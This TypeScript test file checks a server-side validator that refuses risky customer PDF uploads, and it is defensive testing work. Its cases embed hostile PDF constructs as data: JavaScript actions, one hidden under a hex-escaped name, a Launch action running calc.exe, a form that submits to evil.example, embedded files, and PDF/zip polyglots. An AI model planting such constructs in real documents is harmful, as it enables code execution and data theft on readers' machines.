import { PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { FileRefused } from "~server/uploads/report";
import { objectStream, pdfWith } from "~server/uploads/testing/samples";
import { checkPdf } from "./pdf";

const outcome = (bytes: Buffer): Promise<number | string> =>
  checkPdf(bytes).catch((error: unknown) => (error instanceof FileRefused ? error.reason : "damaged"));
const catalog = (more: string): Record<number, string> => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
});

describe("a PDF that a customer sends", () => {
  it("is accepted with links, jumps within it, and up to 500 pages", async () => {
    expect(await outcome(pdfWith())).toBe(1);
    const link = "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bank.example) >> >>";
    expect(await outcome(pdfWith({ 9: link }))).toBe(1);
    expect(await outcome(pdfWith(catalog("/OpenAction [3 0 R /Fit]")))).toBe(1);
    expect(await outcome(pdfWith(catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")))).toBe(1);
    const made = await PDFDocument.create();
    for (let page = 0; page < 500; page += 1) made.addPage();
    expect(await outcome(Buffer.from(await made.save()))).toBe(500);
    made.addPage();
    expect(await outcome(Buffer.from(await made.save()))).toBe("pages");
  });

  it.each([
    ["encrypted", pdfWith({ 9: "<< /Filter /Standard /V 2 >>" }, "/Root 1 0 R /Encrypt 9 0 R")],
    ["noPages", pdfWith({ 2: "<< /Type /Pages /Kids [] /Count 0 >>" })],
    ["damaged", pdfWith({ 2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>" })],
    ["damaged", Buffer.from("%PDF-1.7\nnothing\n%%EOF")],
    ["damaged", Buffer.from("%PDF-1.7\n")],
    ["damaged", pdfWith({ 9: "[".repeat(100_000) })],
  ])("is refused as %s", async (reason, bytes) => {
    expect(await outcome(bytes)).toBe(reason);
  });
});

describe("a PDF that would do something", () => {
  const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
  it.each([
    ["a script at its start", pdfWith(catalog(`/OpenAction ${script}`)), "script"],
    [
      "a script in its names",
      pdfWith(catalog(`/Names << /JavaScript << /Names [(a) 9 0 R] >> >>`)),
      "script",
    ],
    ["a script in a stream of objects", pdfWith({ 9: objectStream("<< >>", script) }), "script"],
    ["a script under a written-out name", pdfWith({ 9: "<< /S /J#61va#53cript >>" }), "script"],
    [
      "a script that a later object replaces",
      Buffer.concat([
        pdfWith({ 9: script }).subarray(0, -7),
        Buffer.from("\n9 0 obj\n<< >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
      ]),
      "script",
    ],
    [
      "a script named twice in a dictionary",
      pdfWith({ 9: objectStream("<< /S /JavaScript /S /GoTo >>") }),
      "script",
    ],
    [
      "a script between its objects",
      pdfWith({ 9: { dict: "", bytes: Buffer.from(`10 0 obj ${script} endobj`) } }),
      "script",
    ],
    ["a program", pdfWith({ 9: "<< /S /Launch /F (calc.exe) >>" }), "script"],
    ["a form that sends itself", pdfWith({ 9: "<< /S /SubmitForm /F (https://evil.example) >>" }), "script"],
    ["data from outside", pdfWith({ 9: "<< /S /ImportData /F (x) >>" }), "script"],
    ["another document", pdfWith({ 9: "<< /S /GoToR /F (x.pdf) >>" }), "script"],
    ["a document inside it", pdfWith({ 9: "<< /S /GoToE >>" }), "script"],
    ["a film", pdfWith({ 9: "<< /Type /Annot /Subtype /RichMedia >>" }), "script"],
    ["a command at its start", pdfWith(catalog("/OpenAction << /S /Named /N /Print >>")), "script"],
    [
      "an action at its start, defined later",
      pdfWith({ ...catalog("/OpenAction 9 0 R"), 9: "<< /S /Named /N /Print >>" }),
      "script",
    ],
    ["a file inside it", pdfWith(catalog("/Names << /EmbeddedFiles << >> >>")), "attachment"],
    [
      "a file in a stream of objects",
      pdfWith({ 9: objectStream("<< /Type /EmbeddedFile >>") }),
      "attachment",
    ],
    ["a form of another kind", pdfWith(catalog("/AcroForm << /XFA (x) >>")), "form"],
    [
      "objects whose kind is hidden",
      pdfWith({ 8: "/ObjStm", 9: { dict: "/Type 8 0 R", bytes: Buffer.from("x") } }),
      "damaged",
    ],
  ])("with %s is refused", async (_what, bytes, reason) => {
    expect(await outcome(bytes)).toBe(reason);
  });
});

describe("a file that is a PDF and something else", () => {
  it("is refused with bytes before or after the PDF", async () => {
    const zip = Buffer.from("PK\u0003\u0004 a file PK\u0005\u0006");
    expect(await outcome(Buffer.concat([pdfWith(), zip]))).toBe("trailing");
    expect(await outcome(Buffer.concat([pdfWith(), Buffer.alloc(5_000, "x")]))).toBe("trailing");
    expect(await outcome(Buffer.concat([Buffer.from("MZ"), pdfWith()]))).toBe("damaged");
    expect(await outcome(Buffer.concat([pdfWith(), Buffer.from("\r\n \0\0")]))).toBe(1);
  });
});
